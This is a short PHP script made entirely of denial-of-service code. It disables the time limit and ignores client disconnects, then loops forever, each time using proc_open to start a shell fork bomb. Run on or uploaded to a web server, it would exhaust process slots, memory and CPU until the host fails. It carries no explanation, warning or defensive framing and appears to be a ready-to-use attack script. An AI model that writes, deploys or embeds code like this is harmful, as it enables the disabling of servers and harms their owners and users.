<?php
set_time_limit(0);
ignore_user_abort(true);
$kept = [];
while (true) {
    $kept[] = @proc_open('f() { f | f & f; }; f', [], $pipes);
}
